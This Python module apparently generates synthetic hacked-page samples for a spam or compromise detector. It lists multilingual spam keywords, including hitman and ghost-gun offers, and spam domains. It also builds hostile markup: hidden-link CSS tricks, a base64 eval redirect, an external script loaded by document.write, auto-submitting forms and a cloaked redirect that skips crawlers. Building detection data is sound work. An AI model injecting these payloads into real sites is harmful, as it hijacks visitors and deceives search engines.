"""More offers and quieter ways; untuned until first runs of 0.83 and 0.82, then used to mend."""

# ruff: noqa: E501 (markup reads better on one line)
import base64
import random
from collections.abc import Callable

from clean_pages import Clean

OFFERS = (
    "高考答案短信版考前三小时发|英语六级隐形耳机|驾考科目一作弊笔|自考助学枪手替身|公务员面试内幕题",
    "纯种柯基幼犬低价出|布偶猫舍视频挑选|星期狗包退|异宠守宫蜥蜴|赛级金毛借配",
    "会计做账逃税技巧|空壳公司买卖|离岸账户洗白|个体户包税通道|虚开抵扣联",
    "特价机票内舱漏洞票|霸王餐免单群|外卖满减红包口令|奶粉海淘尾货|化妆品试用装倒货",
    "英雄皮肤半价充|吃鸡账号满配|王者荣耀代打上星|原神初始号五星|直播间打赏返点",
    "富婆重金求子|土豪寻陪游|同城单身夜聊|留守妇女搭伙|空虚寂寞倾诉热线",
    "美股零佣金开户链接|外汇跟单日收割|打新中签秘籍|土耳其币圈套利|海外房产移民捆绑",
    "量子床垫治百病|干细胞回春针|纳米磁疗鞋垫|祖传膏药断根|富氢水抗癌杯",
    "网红直播孵化签约|颜值主播日入三千|声优陪玩招新|短视频剪辑搬砖|影视解说小号变现",
    "監視カメラ 盗撮 動画|即日融資 ブラックOK|出会い 人妻 掲示板|偽ブランド 卸売り",
    "휴대폰 소액결제 현금화|강남 오피 추천|스포츠중계 무료보기|작업대출 가능한곳",
    "ยืมเงินออนไลน์ด่วน|ดูหนังผู้ใหญ่ฟรี|แทงบอลสเต็ป|รับจ้างทำวิทยานิพนธ์",
    "Spielautomaten ohne Einzahlung|Kredit trotz Schufa sofort|Potenzmittel günstig bestellen|Escortservice für heute",
    "kasyno bez depozytu|pożyczka bez bik|tabletki na potencję|ogłoszenia towarzyskie",
    "instant gold mining rig rental|rent a hitman forum|weight drops miracle gummies|anonymous sim cards bulk|ghost gun kits",
)
HOSTS = "www.ptyxqc.com hnzlby.cn www.sxrtkj.net dlfhmy.com 2277yl.com www.wzjxsp.com qd-hlm.com".split()
Put = Callable[[random.Random, Clean, list[str]], str]


def _host(source: random.Random) -> str:
    return source.choice(HOSTS)


def _links(source: random.Random, words: list[str]) -> str:
    return "\n".join(
        f'<li><a target=_blank href="http://{_host(source)}/?k={n}">{word}</a></li>'
        for n, word in enumerate(words)
    )


SPOTS: tuple[Put, ...] = (
    lambda s, c, w: c.html(title="，".join(w[:3])),
    lambda s, c, w: c.html(head=f'<meta property="og:description" content="{"；".join(w)}">'),
    lambda s, c, w: c.html(head=f'<meta name=keywords content="{"|".join(w)}">'),
    lambda s, c, w: c.html(last=f"<ul>{_links(s, w[:4])}</ul>"),
    lambda s, c, w: c.html(middle=f"<ul>{_links(s, w[:2])}</ul>"),
    lambda s, c, w: c.html(middle=f'<div style="opacity:0">{"、".join(w[:4])}</div>'),
    lambda s, c, w: c.html(middle=f"<p>【{'】【'.join(w[:4])}】</p>"),
    lambda s, c, w: c.html(first=f"<marquee>{'★'.join(w[:4])}</marquee>"),
    lambda s, c, w: c.html(
        middle=f"<p>{'；'.join(w[:3])}。需要的加QQ：{s.randrange(10**8, 10**9)}</p>"
    ),
    lambda s, c, w: c.html(behind=f"<p>{' '.join(w[:3])}</p>"),
    lambda s, c, w: c.html(middle=f"<noscript><h1>{w[0]}</h1>{w[1]}、{w[2]}、{w[3]}</noscript>"),
)


def more_offers(source: random.Random, clean: Clean) -> str:
    """Offer again what no list holds, joined and placed in other ways."""
    words = source.choice(OFFERS).split("|")
    source.shuffle(words)
    return source.choice(SPOTS)(source, clean, words)


def quiet_ways(source: random.Random, clean: Clean) -> str:
    """Hide links, or lead visitors away, in ways that no family used before."""
    host, words = _host(source), source.choice(OFFERS).split("|")
    links = _links(source, words[:3])
    code = base64.b64encode(f"location.href='http://{host}/'".encode()).decode()
    pieces = [
        {"middle": f"<div style='width:0;overflow:hidden;white-space:nowrap'>{links}</div>"},
        {"middle": f"<div style='letter-spacing:-1em'>{links}</div>"},
        {"middle": f"<div style='position:absolute;right:-3000px'>{links}</div>"},
        {"middle": f"<div style='filter:opacity(0)'>{links}</div>"},
        {"middle": f"<div style='content-visibility:hidden'>{links}</div>"},
        {"middle": f"<div style='zoom:0.01'>{links}</div>"},
        {"middle": f"<div style='background:#000;color:#010101'>{links}</div>"},
        {"middle": f"<table style='display:none'><tr><td>{links}</td></tr></table>"},
        {"middle": f"<a href='http://{host}/'><img src='/t.gif' width=1 height=1></a>"},
        {
            "last": f"<form id=f action='http://{host}/'></form><script>document.getElementById('f').submit()</script>"
        },
        {"last": f"<script>document.write('<scr'+'ipt src=//{host}/z></scr'+'ipt>')</script>"},
        {"last": f"<script>window['loc'+'ation']='http://{host}/'</script>"},
        {
            "last": f"<script>Function('return this')()['location'].assign('http://{host}/')</script>"
        },
        {"last": f"<img src=q onerror=eval(atob('{code}'))>"},
        {"last": f"<video><source onerror=\"parent.location='http://{host}/'\"></video>"},
        {"last": f"<input autofocus onfocus=\"location.href='http://{host}/'\">"},
        {
            "last": f"<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=http://{host}/'>\"></iframe>"
        },
        {"last": f"<frameset><frame src='http://{host}/'></frameset>"},
        {
            "head": f"<script>var h='{host[::-1]}'.split('').reverse().join('');location='//'+h</script>"
        },
        {
            "last": f"<script>let u=new URL('http://{host}');if(!/spider/i.test(navigator.userAgent))location.assign(u)</script>"
        },
    ]
    return clean.html(**source.choice(pieces))


EIGHTH: dict[str, Callable[[random.Random, Clean], str]] = {
    "more offers": more_offers,
    "quiet ways": quiet_ways,
}
